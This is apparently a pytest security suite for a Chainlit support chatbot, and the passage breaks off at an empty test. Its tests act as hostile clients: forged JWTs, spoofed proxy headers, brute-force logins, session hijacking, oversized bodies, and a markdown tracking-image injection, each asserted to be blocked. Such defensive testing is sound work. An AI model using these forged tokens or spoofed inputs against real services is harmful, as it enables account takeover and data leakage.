"""Attacks on the running chat servers, each with the limit or check that stops it.

One real ``chainlit run bot/app.py`` per instance kind (merchant, agent), module-scoped,
driven over HTTP and Socket.IO as a hostile client would. The README's "Security and
reliability" table names the test for each attack.

Every client here is on loopback; uvicorn trusts ``X-Forwarded-For`` and
``X-Forwarded-Proto`` from loopback (as from a local proxy), which is how these tests
speak from other addresses and over "HTTPS".
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import secrets
import socket
import sqlite3
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import jwt
import pytest
from socketio.exceptions import ConnectionError as SocketRefused

from bot.chat_render import filters_from_settings, offered_settings, rate_limited_text
from bot.cli import spreadsheet_safe
from bot.persistence import create_schema_async, fetch_abstentions, gap_report
from bot.web_guard import (
    CONTENT_SECURITY_POLICY,
    MESSAGE_REFUSED,
    NOT_OFFERED,
    NOT_YOURS,
    OTHER_SITE,
    TOO_LARGE,
    UPLOADS_OFF,
    client_of,
)
from tests.test_load import ChatServer, _spawn, _stop

pytestmark = pytest.mark.model

SOCKET_PATH = "/ws/socket.io"
AGENT_USER, AGENT_PASSWORD = "agent", "correct-horse"
AUTH_SECRET = secrets.token_hex(32)
WIDGET_SITE = "http://shop.example"
MAX_MESSAGE_CHARS = 2000
MAX_COMMENT_CHARS = 500
SESSION_TIMEOUT_S = 10
QUESTION = "what does FORTNOX_CUSTOMER_NAME_EMPTY mean"


@pytest.fixture(scope="module")
def index_dir(real_bot: Any, real_index_dir: Path) -> Path:
    return real_index_dir


@pytest.fixture(scope="module")
def merchant(tmp_path_factory: pytest.TempPathFactory, index_dir: Path) -> Iterator[ChatServer]:
    env = {
        "SUPPORTBOT_CHAT__AGENT_PROFILE": "false",
        "SUPPORTBOT_CHAT__RATE_LIMIT_PER_MINUTE": "1000",
        "SUPPORTBOT_CHAT__STREAM_SECONDS": "0",
        "SUPPORTBOT_SECURITY__ALLOWED_ORIGINS": json.dumps([WIDGET_SITE]),
        "SUPPORTBOT_SECURITY__MAX_MESSAGE_CHARS": str(MAX_MESSAGE_CHARS),
        "SUPPORTBOT_SECURITY__MAX_COMMENT_CHARS": str(MAX_COMMENT_CHARS),
        "SUPPORTBOT_SECURITY__SESSION_TIMEOUT_S": str(SESSION_TIMEOUT_S),
    }
    server = _spawn(tmp_path_factory.mktemp("sec-merchant"), index_dir, env)
    try:
        yield server
    finally:
        _stop(server)


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory, index_dir: Path) -> Iterator[ChatServer]:
    env = {
        "SUPPORTBOT_CHAT__AGENT_USERNAME": AGENT_USER,
        "SUPPORTBOT_CHAT__AGENT_PASSWORD": AGENT_PASSWORD,
        "SUPPORTBOT_CHAT__RATE_LIMIT_PER_MINUTE": "1000",
        "SUPPORTBOT_CHAT__STREAM_SECONDS": "0",
        "SUPPORTBOT_SECURITY__LOGIN_MAX_FAILURES_PER_USER": "3",
        "SUPPORTBOT_SECURITY__LOGIN_MAX_FAILURES_PER_ADDRESS": "5",
        "SUPPORTBOT_SECURITY__LOGIN_WINDOW_S": "600",
        "SUPPORTBOT_SECURITY__LOGIN_LIFETIME_S": "3600",
        "SUPPORTBOT_SECURITY__COOKIE_SAMESITE": "strict",
        # Even a configured widget site gets nothing from the agent instance.
        "SUPPORTBOT_SECURITY__ALLOWED_ORIGINS": json.dumps([WIDGET_SITE]),
        "CHAINLIT_AUTH_SECRET": AUTH_SECRET,
        # A second proxy, as if on another host: its X-Forwarded-Proto must count too.
        "SUPPORTBOT_CHAT__TRUSTED_PROXIES": f"127.0.0.1,::1,{OTHER_PROXY}",
    }
    server = _spawn(tmp_path_factory.mktemp("sec-agent"), index_dir, env)
    try:
        yield server
    finally:
        _stop(server)


# Loopback peers other than the trusted proxy (127.0.0.1): the whole of 127/8 is local.
UNTRUSTED_PEER = "127.0.0.2"
OTHER_PROXY = "127.0.0.3"
PER_ADDRESS = 2


@pytest.fixture(scope="module")
def address_limited(
    tmp_path_factory: pytest.TempPathFactory, index_dir: Path
) -> Iterator[ChatServer]:
    """A merchant instance allowing each client address PER_ADDRESS messages a minute."""
    env = {
        "SUPPORTBOT_CHAT__AGENT_PROFILE": "false",
        "SUPPORTBOT_CHAT__RATE_LIMIT_PER_MINUTE": "1000",
        "SUPPORTBOT_CHAT__RATE_LIMIT_PER_ADDRESS_PER_MINUTE": str(PER_ADDRESS),
        "SUPPORTBOT_CHAT__STREAM_SECONDS": "0",
    }
    server = _spawn(tmp_path_factory.mktemp("sec-per-address"), index_dir, env)
    try:
        yield server
    finally:
        _stop(server)


def _login(url: str, password: str = AGENT_PASSWORD, **headers: str) -> httpx.Response:
    with httpx.Client(base_url=url, timeout=20) as http:
        return http.post(
            "/login", data={"username": AGENT_USER, "password": password}, headers=headers
        )


@pytest.fixture(scope="module")
def agent_token(agent: ChatServer) -> str:
    """A valid login, taken before any test locks the agent's account."""
    response = _login(agent.url)
    assert response.status_code == 200, response.text
    return response.cookies["access_token"]


def _stored_rows(db: Path, sql: str, *params: object, wait_s: float = 10) -> list[tuple]:
    """:func:`_rows` once it returns something: Chainlit stores steps in background tasks."""
    deadline = time.monotonic() + wait_s
    while not (rows := _rows(db, sql, *params)) and time.monotonic() < deadline:
        time.sleep(0.2)
    return rows


def _rows(db: Path, sql: str, *params: object) -> list[tuple]:
    con = sqlite3.connect(db, timeout=15)
    try:
        return con.execute(sql, params).fetchall()
    finally:
        con.close()


# -- a hostile browser tab ------------------------------------------------------------------


class Tab:
    """A Socket.IO client that sends whatever it likes (auth, headers, message fields)."""

    def __init__(
        self,
        url: str,
        *,
        session_id: str | None = None,
        thread_id: str = "",
        headers: dict[str, str] | None = None,
        cookies: dict[str, str] | None = None,
        profile: str = "Merchant",
        local_addr: str | None = None,
    ) -> None:
        # local_addr: the loopback address this tab connects from (127.0.0.2 is another
        # peer than the server's trusted proxy, 127.0.0.1).
        self.local_addr = local_addr
        self.url = url
        self.session_id = session_id or str(uuid.uuid4())
        self.thread_id = thread_id
        self.headers = headers or {}
        self.cookies = cookies or {}
        self.profile = profile
        self.events: asyncio.Queue[tuple[str, Any]] = asyncio.Queue()
        self.http: Any = None
        self.sio: Any = None

    async def __aenter__(self) -> Tab:
        import aiohttp
        import socketio
        from yarl import URL

        connector = (
            aiohttp.TCPConnector(local_addr=(self.local_addr, 0)) if self.local_addr else None
        )
        self.http = aiohttp.ClientSession(
            cookie_jar=aiohttp.CookieJar(unsafe=True), connector=connector
        )
        if self.cookies:
            self.http.cookie_jar.update_cookies(self.cookies, response_url=URL(self.url))
        self.sio = socketio.AsyncClient(reconnection=False, http_session=self.http)
        self.sio.on("*", lambda event, data=None: self.events.put_nowait((event, data)))
        self.sio.on("disconnect", lambda *a: self.events.put_nowait(("__disconnect__", None)))
        auth = {
            "clientType": "webapp",
            "sessionId": self.session_id,
            "threadId": self.thread_id,
            "userEnv": "{}",
            "chatProfile": self.profile,
        }
        try:
            await self.sio.connect(
                self.url,
                auth=auth,
                headers=self.headers,
                transports=["websocket"],
                socketio_path=SOCKET_PATH,
                wait_timeout=20,
            )
            await self.sio.emit("connection_successful")
            await self._until_task_end()
        except BaseException:
            await self.http.close()
            raise
        return self

    async def __aexit__(self, *exc: object) -> None:
        try:
            await asyncio.wait_for(self.sio.disconnect(), 5)
        except TimeoutError:
            pass  # closing the HTTP session below drops the websocket anyway
        finally:
            await self.http.close()

    async def _until_task_end(self, timeout: float = 60) -> list[tuple[str, Any]]:
        """Events until the task ends, or until a notice arrives outside any task."""
        seen: list[tuple[str, Any]] = []
        started = False
        async with asyncio.timeout(timeout):
            while True:
                event, data = await self.events.get()
                seen.append((event, data))
                if event == "__disconnect__":
                    return seen
                # A quick reply starts with its run step, a slow one with "task start".
                if event == "task_start" or (
                    event == "new_message" and isinstance(data, dict) and data.get("type") == "run"
                ):
                    started = True
                elif event == "task_end" and started:
                    return seen
                elif event == "new_message" and not started:
                    return seen

    async def send(self, message: dict[str, Any]) -> list[tuple[str, Any]]:
        """Emit a ``client_message`` as given; the events it caused."""
        await self.sio.emit("client_message", {"message": message, "fileReferences": []})
        return await self._until_task_end()

    async def ask(self, question: str, **fields: Any) -> dict[str, Any]:
        """Send a question like the web app does (fields override); what came back."""
        message = {
            "threadId": "",
            "id": str(uuid.uuid4()),
            "name": "User",
            "type": "user_message",
            "output": question,
            "createdAt": datetime.now(UTC).isoformat().replace("+00:00", "Z"),
            "metadata": {},
            **fields,
        }
        events = await self.send(message)
        messages = [d for e, d in events if e == "new_message" and isinstance(d, dict)]
        run = next((m for m in messages if m.get("type") == "run"), {})
        answers = [m for m in messages if m.get("type") == "assistant_message"]
        return {
            "id": message["id"],
            "run_id": run.get("id"),
            "thread_id": run.get("threadId") or (answers[0].get("threadId") if answers else None),
            "answers": [str(m.get("output") or "") for m in answers],
            "events": events,
        }


def _cookie(token: str, name: str = "access_token") -> dict[str, str]:
    """The login cookie as a header (httpx deprecates per-request cookie jars)."""
    return {"Cookie": f"{name}={token}"}


def _run(coro: Any) -> Any:
    return asyncio.run(coro)


def _rss_kb(server: ChatServer) -> int:
    status = Path(f"/proc/{server.process.pid}/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmRSS")))


# -- 1. the agent login --------------------------------------------------------------------------


def test_login_cookie_is_secure_over_https_strict_and_short_lived(agent: ChatServer) -> None:
    over_https = _login(agent.url, **{"X-Forwarded-Proto": "https"})
    assert over_https.status_code == 200
    cookie = over_https.headers["set-cookie"]
    assert "access_token=" in cookie
    assert "Secure" in cookie
    assert "SameSite=Strict" in cookie
    assert "Max-Age=3600" in cookie  # SUPPORTBOT_SECURITY__LOGIN_LIFETIME_S, not 15 days
    claims = jwt.decode(over_https.cookies["access_token"], AUTH_SECRET, algorithms=["HS256"])
    assert claims["exp"] - claims["iat"] == 3600

    plain = _login(agent.url)
    assert plain.status_code == 200
    assert "Secure" not in plain.headers["set-cookie"]  # over plain HTTP it could not be sent
    assert "SameSite=Strict" in plain.headers["set-cookie"]

    # SUPPORTBOT_CHAT__TRUSTED_PROXIES is what uvicorn believes as well: a listed proxy's
    # "https" counts, a peer that is not listed cannot claim it.
    for peer, secure in ((OTHER_PROXY, True), (UNTRUSTED_PEER, False)):
        transport = httpx.HTTPTransport(local_address=peer)
        with httpx.Client(base_url=agent.url, timeout=20, transport=transport) as http:
            via = http.post(
                "/login",
                data={"username": AGENT_USER, "password": AGENT_PASSWORD},
                headers={"X-Forwarded-Proto": "https"},
            )
        assert via.status_code == 200
        assert ("Secure" in via.headers["set-cookie"]) is secure, peer


def test_logout_revokes_the_token_everywhere(agent: ChatServer) -> None:
    token = _login(agent.url).cookies["access_token"]
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        http.cookies.set("access_token", token)
        assert http.get("/user").status_code == 200
        assert http.post("/logout").status_code == 200
        http.cookies.clear()
        # The same token, however it is presented, is dead.
        assert http.get("/user", headers=_cookie(token)).status_code == 401
        assert http.get("/user", headers={"Authorization": f"Bearer {token}"}).status_code == 401
        assert http.get("/user", headers=_cookie(token, "access_token_0")).status_code == 401
        threads = {"pagination": {"first": 20, "cursor": None}, "filter": {}}
        refused = http.post("/project/threads", json=threads, headers=_cookie(token))
        assert refused.status_code == 401
        assert refused.json()["detail"] == "This login has ended. Please log in again."
    with pytest.raises(SocketRefused):
        _run(Tab(agent.url, cookies={"access_token": token}).__aenter__())
    # Nor can a live token be traded for a fresh one (a login that never expires).
    live = _login(agent.url).cookies["access_token"]
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        traded = http.post("/auth/jwt", headers={"Authorization": f"Bearer {live}"})
        assert (traded.status_code, traded.json()["detail"]) == (403, NOT_OFFERED)
        assert "access_token" not in traded.cookies
    # Stored as a hash, in the database every replica reads.
    digests = {r[0] for r in _rows(agent.db_path, "SELECT digest FROM revoked_tokens")}
    assert token not in digests
    assert len(digests) >= 1


def test_the_agent_instance_answers_no_other_site(agent: ChatServer, agent_token: str) -> None:
    port = urlsplit(agent.url).port
    for origin in (f"http://127.0.0.1:{port + 1}", WIDGET_SITE, "null"):
        with httpx.Client(base_url=agent.url, timeout=20) as http:
            http.cookies.set("access_token", agent_token)
            response = http.get("/user", headers={"Origin": origin})
            assert response.status_code == 403
            assert response.json()["detail"] == OTHER_SITE
            assert "access-control-allow-origin" not in response.headers
            preflight = http.options(
                "/project/thread",
                headers={"Origin": origin, "Access-Control-Request-Method": "PUT"},
            )
            assert "access-control-allow-origin" not in preflight.headers
        with pytest.raises(SocketRefused):
            _run(
                Tab(
                    agent.url, cookies={"access_token": agent_token}, headers={"Origin": origin}
                ).__aenter__()
            )
    # Its own pages still work, with or without an Origin header.
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        http.cookies.set("access_token", agent_token)
        assert http.get("/user", headers={"Origin": agent.url}).status_code == 200
        assert http.get("/user").status_code == 200


async def _agent_feedback_case(url: str, token: str) -> None:
    async with Tab(url, cookies={"access_token": token}, profile="Support agent") as tab:
        reply = await tab.ask(QUESTION)
    assert reply["run_id"], reply["events"]
    feedback = {"forId": reply["run_id"], "threadId": reply["thread_id"], "value": 0}
    # Another account (here: a token for another user, as SSO would issue) may not touch it.
    mallory = jwt.encode(
        {"identifier": "mallory", "metadata": {}, "exp": time.time() + 600, "iat": time.time()},
        AUTH_SECRET,
        algorithm="HS256",
    )
    with httpx.Client(base_url=url, timeout=30) as http:
        body = {"feedback": feedback, "sessionId": str(uuid.uuid4())}
        stranger = http.put("/feedback", json=body, headers=_cookie(mallory))
        assert stranger.status_code == 403
        assert stranger.json()["detail"] == NOT_YOURS
        mine = http.put("/feedback", json=body, headers=_cookie(token))
        assert mine.status_code == 200
        feedback_id = mine.json()["feedbackId"]
        overwrite = {"feedback": {**feedback, "id": feedback_id, "value": 1}, "sessionId": "x"}
        assert http.put("/feedback", json=overwrite, headers=_cookie(mallory)).status_code == 403
        delete = {"feedbackId": feedback_id}
        assert (
            http.request("DELETE", "/feedback", json=delete, headers=_cookie(mallory))
        ).status_code == 403
        assert (
            http.request("DELETE", "/feedback", json=delete, headers=_cookie(token)).status_code
            == 200
        )
        # Renaming one's own conversation: within the name limit only.
        rename = {"threadId": reply["thread_id"], "name": "n" * 201}
        assert http.put("/project/thread", json=rename, headers=_cookie(token)).status_code == 413
        rename["name"] = "VAT question"
        assert http.put("/project/thread", json=rename, headers=_cookie(token)).status_code == 200


def test_feedback_on_the_agent_instance_only_on_ones_own_threads(
    agent: ChatServer, agent_token: str
) -> None:
    _run(_agent_feedback_case(agent.url, agent_token))


def _failed_logins(url: str, names: str, headers: dict[str, str]) -> list[int]:
    """Status of five failed logins, one per user name, then of one more."""
    with httpx.Client(base_url=url, timeout=20) as http:
        return [
            http.post(
                "/login", data={"username": f"{names}{n}", "password": "x"}, headers=headers
            ).status_code
            for n in range(6)
        ]


def test_behind_the_proxy_each_client_has_its_own_login_throttle_and_cannot_forge_one(
    agent: ChatServer,
) -> None:
    # nginx (a trusted peer) names the client in X-Real-IP: five failures from one
    # merchant's address lock that address, not everyone behind the proxy.
    one = {"X-Real-IP": "198.51.100.20"}
    assert _failed_logins(agent.url, "proxied-a", one) == [401] * 5 + [429]
    other = {"X-Real-IP": "198.51.100.21"}
    assert _failed_logins(agent.url, "proxied-b", other)[0] == 401
    # A peer that is not a trusted proxy is keyed by its own address, whatever it claims.
    forged = [{"X-Real-IP": f"192.0.2.{n}", "X-Forwarded-For": f"192.0.2.{n}"} for n in range(6)]
    transport = httpx.HTTPTransport(local_address=UNTRUSTED_PEER)
    with httpx.Client(base_url=agent.url, timeout=20, transport=transport) as http:
        codes = [
            http.post(
                "/login", data={"username": f"direct{n}", "password": "x"}, headers=h
            ).status_code
            for n, h in enumerate(forged)
        ]
    assert codes == [401] * 5 + [429]
    keys = {r[0] for r in _rows(agent.db_path, "SELECT key FROM login_failures")}
    assert {"addr:198.51.100.20", "addr:198.51.100.21", f"addr:{UNTRUSTED_PEER}"} <= keys
    assert not any(k.startswith("addr:192.0.2.") for k in keys)
    assert "addr:127.0.0.1" not in keys  # the proxy itself is nobody's address


async def _asked_from(url: str, local: str | None, real_ip: str, times: int) -> list[str]:
    """Answers of ``times`` questions from a new tab claiming ``real_ip``."""
    async with Tab(url, headers={"X-Real-IP": real_ip}, local_addr=local) as tab:
        return [(await tab.ask(QUESTION))["answers"][0] for _ in range(times)]


def test_behind_the_proxy_each_client_has_its_own_rate_limit_and_cannot_forge_one(
    address_limited: ChatServer,
) -> None:
    url = address_limited.url
    limited = rate_limited_text(1).split("Please wait")[0]
    # Through the proxy: two merchants, each with the whole per-address allowance.
    first = _run(_asked_from(url, None, "198.51.100.30", PER_ADDRESS + 1))
    assert [limited in a for a in first] == [False] * PER_ADDRESS + [True]
    second = _run(_asked_from(url, None, "198.51.100.31", 1))
    assert limited not in second[0]
    # Directly from another peer: a new tab claiming a new address is still that peer.
    direct = _run(_asked_from(url, UNTRUSTED_PEER, "203.0.113.1", PER_ADDRESS))
    assert not any(limited in a for a in direct)
    again = _run(_asked_from(url, UNTRUSTED_PEER, "203.0.113.2", 1))
    assert limited in again[0]
    clients = {
        r[0] for r in _rows(address_limited.db_path, "SELECT client FROM supportbot_rate_events")
    }
    assert {"address:198.51.100.30", "address:198.51.100.31", f"address:{UNTRUSTED_PEER}"} <= (
        clients
    )
    assert not any(c.startswith("address:203.0.113.") for c in clients)


def test_the_client_address_is_the_proxys_header_only_from_a_trusted_proxy() -> None:
    trusted = ("127.0.0.1", "::1")

    def scope(peer: str | None, **headers: str) -> dict[str, Any]:
        raw = [(k.replace("_", "-").encode(), v.encode()) for k, v in headers.items()]
        return {"client": (peer, 1234) if peer else None, "headers": raw}

    assert client_of(scope("127.0.0.1", x_real_ip="198.51.100.1"), trusted) == "198.51.100.1"
    # nginx appends the peer it saw: the right-most entry is the one it vouches for.
    xff = {"x_forwarded_for": "10.9.9.9, 198.51.100.2"}
    assert client_of(scope("::1", **xff), trusted) == "198.51.100.2"
    assert client_of(scope("203.0.113.5", x_real_ip="198.51.100.1"), trusted) == "203.0.113.5"
    assert client_of(scope("127.0.0.1"), trusted) == "127.0.0.1"
    assert client_of(scope("127.0.0.1", x_real_ip="1.2.3.4"), ()) == "127.0.0.1"
    assert client_of(None, trusted) == "unknown"


def test_login_is_locked_per_user_and_per_address_across_the_database(
    agent: ChatServer, agent_token: str
) -> None:
    # Runs last on this server: it locks the agent's account for the window.
    a = {"X-Forwarded-For": "203.0.113.7"}
    for _ in range(3):
        assert _login(agent.url, "guess", **a).status_code == 401
    locked = _login(agent.url, **a)  # the right password, too late
    assert locked.status_code == 429
    assert locked.json()["detail"].startswith("Too many failed logins")
    assert "try again in 10 minutes" in locked.json()["detail"]
    assert int(locked.headers["retry-after"]) > 500
    assert "access_token" not in locked.cookies
    # The lock is the account's: from elsewhere too.
    assert _login(agent.url, **{"X-Forwarded-For": "198.51.100.1"}).status_code == 429

    # Per address: many user names from one address.
    b = {"X-Forwarded-For": "192.0.2.99"}
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        for n in range(5):
            form = {"username": f"user{n}", "password": "x"}
            assert http.post("/login", data=form, headers=b).status_code == 401
        form = {"username": "someone-new", "password": "x"}
        assert http.post("/login", data=form, headers=b).status_code == 429
        # Another address is unaffected.
        other = {"X-Forwarded-For": "192.0.2.100"}
        assert http.post("/login", data=form, headers=other).status_code == 401
    # Counted in the chat database, which all replicas share.
    keys = {r[0] for r in _rows(agent.db_path, "SELECT key FROM login_failures")}
    assert {"user:agent", "addr:203.0.113.7", "addr:192.0.2.99"} <= keys
    # A login taken before the lockout still works (the lock stops guessing, not agents).
    with httpx.Client(base_url=agent.url, timeout=20) as http:
        assert http.get("/user", headers=_cookie(agent_token)).status_code == 200


# -- 2. sizes -----------------------------------------------------------------------------------


def _raw_post(url: str, path: str, headers: str, send_bytes: int) -> tuple[str, float]:
    """POST by hand: headers, then up to ``send_bytes`` of body; (status line, seconds)."""
    host = urlsplit(url)
    started = time.perf_counter()
    with socket.create_connection((host.hostname, host.port), timeout=20) as s:
        s.sendall(f"POST {path} HTTP/1.1\r\nHost: {host.netloc}\r\n{headers}\r\n".encode())
        chunk = b"x" * 65536
        sent = 0
        try:
            while sent < send_bytes:
                s.sendall(chunk)
                sent += len(chunk)
        except OSError:
            pass  # the server stopped reading: the point
        status = s.recv(4096).split(b"\r\n", 1)[0].decode()
    return status, time.perf_counter() - started


def test_large_bodies_are_refused_before_they_are_read(merchant: ChatServer) -> None:
    before = _rss_kb(merchant)
    # An announced 200 MB upload (uploads are off): refused from the headers alone.
    status, seconds = _raw_post(
        merchant.url,
        "/project/file?session_id=x",
        "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 200000000\r\n",
        20_000_000,
    )
    assert " 403 " in status or " 413 " in status, status
    # A streamed (chunked) body with no length: cut off at the limit.
    with httpx.Client(base_url=merchant.url, timeout=30) as http:

        def body() -> Iterator[bytes]:
            for _ in range(200):
                yield b"{" + b" " * 100_000

        try:
            response = http.put("/feedback", content=body())
            assert response.status_code == 413
            assert response.json()["detail"] == TOO_LARGE
        except httpx.TransportError:
            pass  # refused mid-upload: the server closed the connection
        upload = http.post("/project/file", params={"session_id": "x"}, files={"file": b"hi"})
        assert upload.status_code == 403
        assert upload.json()["detail"] == UPLOADS_OFF
    grown_mb = (_rss_kb(merchant) - before) / 1024
    print(f"\nserver memory growth after 20 MB + 20 MB refused bodies: {grown_mb:.1f} MB")
    assert grown_mb < 15


async def _oversized_socket_message(url: str) -> list[tuple[str, Any]]:
    async with Tab(url) as tab:
        events = await tab.send(
            {
                "id": str(uuid.uuid4()),
                "type": "user_message",
                "output": "x" * 200_000,
                "createdAt": "2026-01-01T00:00:00Z",
            }
        )
        return events


async def _long_question(url: str) -> dict[str, Any]:
    async with Tab(url) as tab:
        return await tab.ask("FORTNOX " * (MAX_MESSAGE_CHARS // 8 + 10))


def test_oversized_socket_messages_and_questions_are_not_stored(merchant: ChatServer) -> None:
    # Over the socket's buffer (64 KB): the Engine.IO layer drops the connection.
    events = _run(_oversized_socket_message(merchant.url))
    assert events[-1][0] == "__disconnect__"
    # Over the question limit: a polite notice, nothing stored.
    reply = _run(_long_question(merchant.url))
    assert reply["run_id"] is None
    notices = [str(d.get("output")) for e, d in reply["events"] if e == "new_message"]
    assert any("too long" in n for n in notices), notices
    longest = _rows(merchant.db_path, 'SELECT MAX(LENGTH("output")) FROM steps')[0][0] or 0
    assert longest < MAX_MESSAGE_CHARS + 1000
    names = _rows(merchant.db_path, 'SELECT MAX(LENGTH("name")) FROM threads')[0][0] or 0
    assert names <= 200


async def _ask_in_new_tab(url: str, question: str = QUESTION, **tab: Any) -> tuple[Tab, dict]:
    t = Tab(url, **tab)
    await t.__aenter__()
    return t, await t.ask(question)


async def _feedback_case(url: str) -> None:
    alice, asked = await _ask_in_new_tab(url)
    mallory, own = await _ask_in_new_tab(url, "what is error 2000637")
    try:
        run, thread = asked["run_id"], asked["thread_id"]
        assert run
        assert own["run_id"]
        on_alice = {"forId": run, "threadId": thread, "value": 0}
        far = {"X-Forwarded-For": "203.0.113.50"}
        with httpx.Client(base_url=url, timeout=30) as http:
            # Mallory's own session id, Alice's step.
            r = http.put("/feedback", json={"feedback": on_alice, "sessionId": mallory.session_id})
            assert (r.status_code, r.json()["detail"]) == (403, NOT_YOURS)
            # Alice's session id, from another address.
            body = {"feedback": on_alice, "sessionId": alice.session_id}
            assert http.put("/feedback", json=body, headers=far).status_code == 403
            # A made-up step.
            made_up = {"forId": str(uuid.uuid4()), "threadId": thread, "value": 1}
            body = {"feedback": made_up, "sessionId": alice.session_id}
            assert http.put("/feedback", json=body).status_code == 403
            # Too long a comment, even on one's own step.
            long = {**on_alice, "comment": "x" * (MAX_COMMENT_CHARS + 1)}
            r = http.put("/feedback", json={"feedback": long, "sessionId": alice.session_id})
            assert r.status_code == 413
            # Alice herself.
            body = {"feedback": {**on_alice, "comment": "ok"}, "sessionId": alice.session_id}
            r = http.put("/feedback", json=body)
            assert r.status_code == 200, r.text
            alice_feedback = r.json()["feedbackId"]
            # Mallory overwriting Alice's feedback by its id, through her own step.
            forged = {
                "forId": own["run_id"],
                "threadId": own["thread_id"],
                "value": 1,
                "id": alice_feedback,
            }
            body = {"feedback": forged, "sessionId": mallory.session_id}
            assert http.put("/feedback", json=body).status_code == 403
            # Deleting it from elsewhere, or a made-up one.
            gone = {"feedbackId": alice_feedback}
            assert http.request("DELETE", "/feedback", json=gone, headers=far).status_code == 403
            made_up_id = {"feedbackId": str(uuid.uuid4())}
            assert http.request("DELETE", "/feedback", json=made_up_id).status_code == 403
            # Running an action in Alice's session from elsewhere.
            action = {"name": "handoff", "payload": {}, "forId": run, "id": str(uuid.uuid4())}
            body = {"action": action, "sessionId": alice.session_id}
            assert http.post("/project/action", json=body, headers=far).status_code == 403
            body = {"action": action, "sessionId": str(uuid.uuid4())}
            assert http.post("/project/action", json=body).status_code == 403
    finally:
        await alice.__aexit__()
        await mallory.__aexit__()


def test_feedback_and_actions_only_in_ones_own_session(merchant: ChatServer) -> None:
    _run(_feedback_case(merchant.url))
    rows = _rows(merchant.db_path, 'SELECT "value", "comment" FROM feedbacks')
    assert rows == [(0, "ok")]  # Alice's own, untouched by Mallory


async def _takeover_case(url: str) -> tuple[dict, dict, dict]:
    alice, asked = await _ask_in_new_tab(url)
    try:
        # A new tab naming Alice's thread, then one reusing her live session id.
        intruder, into_thread = await _ask_in_new_tab(
            url, "intruder one", thread_id=asked["thread_id"]
        )
        await intruder.__aexit__()
        hijack, into_session = await _ask_in_new_tab(
            url, "intruder two", session_id=alice.session_id
        )
        await hijack.__aexit__()
        # Alice's session still answers her, in her thread.
        again = await alice.ask("what is error 2000637")
        assert again["thread_id"] == asked["thread_id"]
        return asked, into_thread, into_session
    finally:
        await alice.__aexit__()


def test_client_chosen_thread_and_session_ids_are_not_honoured(merchant: ChatServer) -> None:
    asked, into_thread, into_session = _run(_takeover_case(merchant.url))
    thread = asked["thread_id"]
    assert into_thread["thread_id"] != thread
    assert into_session["thread_id"] != thread
    # Everyone's messages are stored (steps are written in background tasks) before
    # Alice's thread is checked: the intruders' elsewhere, hers in her thread.
    for text in ("intruder one", "intruder two"):
        assert _stored_rows(merchant.db_path, "SELECT 1 FROM steps WHERE output = ?", text)
    for text in (QUESTION, "what is error 2000637"):
        mine = 'SELECT 1 FROM steps WHERE "threadId" = ? AND output = ?'
        assert _stored_rows(merchant.db_path, mine, thread, text), text
    outputs = [
        r[0]
        for r in _rows(merchant.db_path, 'SELECT output FROM steps WHERE "threadId" = ?', thread)
    ]
    assert not any("intruder" in str(o) for o in outputs)
    name = _rows(merchant.db_path, "SELECT name FROM threads WHERE id = ?", thread)[0][0]
    assert "intruder" not in name


async def _ask_and_leave(url: str) -> None:
    async with Tab(url) as tab:
        await tab.ask(QUESTION)


async def _posing_case(url: str, existing_step: str) -> tuple[dict, dict, list]:
    async with Tab(url) as tab:
        posed = await tab.ask(
            "posing as the bot",
            type="assistant_message",
            name="Junipeer Support",
            metadata={"abstained": True, "kind": "answer", "question": "fake gap"},
            parentId=str(uuid.uuid4()),
        )
        reused = await tab.ask("overwrite an answer", id=existing_step)
        malformed = []
        for message in (
            {"id": "not-a-uuid", "output": "x"},
            {"id": str(uuid.uuid1()), "output": "x"},
            {"id": str(uuid.uuid4()), "output": {"not": "text"}},
            {"id": str(uuid.uuid4())},
        ):
            malformed.append(await tab.send(message))
        return posed, reused, malformed


def test_client_messages_cannot_pose_as_answers_or_break_with_raw_errors(
    merchant: ChatServer,
) -> None:
    _run(_ask_and_leave(merchant.url))
    answer = _stored_rows(
        merchant.db_path, "SELECT id, output FROM steps WHERE type = 'assistant_message' LIMIT 1"
    )
    answer_id, answer_text = answer[0]
    posed, reused, malformed = _run(_posing_case(merchant.url, answer_id))

    stored = _stored_rows(
        merchant.db_path, "SELECT type, metadata FROM steps WHERE id = ?", posed["id"]
    )
    assert stored
    assert stored[0][0] == "user_message"
    assert json.loads(stored[0][1] or "{}") == {}
    assert posed["answers"]  # it was answered as a question
    gaps = gap_report([], fetch_abstentions(merchant.database_url))
    assert not any("fake gap" in q for g in gaps for q in g["questions"])

    assert reused["run_id"] is None
    assert any(
        d.get("output") == MESSAGE_REFUSED for e, d in reused["events"] if e == "new_message"
    )
    assert _rows(merchant.db_path, "SELECT output FROM steps WHERE id = ?", answer_id) == [
        (answer_text,)
    ]
    for events in malformed:
        shown = [str(d.get("output")) for e, d in events if e == "new_message"]
        assert shown == [MESSAGE_REFUSED], events
    log = merchant.log.read_text()
    assert "Traceback" not in log or "AssertionError" not in log


async def _bogus_filter(url: str) -> dict:
    async with Tab(url) as tab:
        await tab.sio.emit(
            "chat_settings_change",
            {
                "system": "![x](http://tracker.example/p.png) <b>x</b>",
                "severity": "Error",
                "junk": "j" * 50_000,
            },
        )
        return await tab.ask(QUESTION)


def test_a_bogus_filter_value_is_neither_used_nor_echoed(merchant: ChatServer) -> None:
    reply = _run(_bogus_filter(merchant.url))
    text = "\n".join(reply["answers"])
    assert "tracker" not in text
    assert "<b>" not in text
    assert "severity Error" in text  # the valid one is kept
    assert filters_from_settings({"system": "Nope"}, ["Fortnox"]) is None
    # Settings the app does not offer are not kept (in memory, then with the thread).
    sent = {"severity": "Error", "system": "<b>", "junk": "j" * 50_000, "other": ["x"]}
    assert offered_settings(sent, ["Fortnox"]) == {"severity": "Error"}
    assert offered_settings({"system": "Fortnox"}, ["Fortnox"]) == {"system": "Fortnox"}
    assert offered_settings("not a dict", ["Fortnox"]) == {}


def test_routes_the_app_does_not_use_are_closed(merchant: ChatServer) -> None:
